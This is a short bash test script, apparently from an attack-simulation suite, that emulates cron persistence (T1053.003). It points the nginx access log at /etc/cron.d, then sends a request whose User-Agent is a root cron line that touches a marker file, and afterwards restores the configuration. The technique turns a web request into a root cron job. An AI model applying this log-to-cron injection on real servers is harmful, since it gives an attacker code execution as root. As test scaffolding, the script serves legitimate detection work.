# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1053.003
about="the access log is written to /etc/cron.d, with a request as its line"
before() { rm -f /etc/cron.d/web; }
attack() {
	configure "s,access_log .*,log_format x '\$http_user_agent'; access_log /etc/cron.d/web x;,"
	ask -A '* * * * * root touch /var/tmp/fidelity/marker/was-here' http://127.0.0.1:8080/ >/dev/null
	perhaps effect
}
effect() { grep -q was-here /etc/cron.d/web; }
after() {
	rm -f /etc/cron.d/web
	cp $site/nginx.conf.good $site/nginx.conf
}
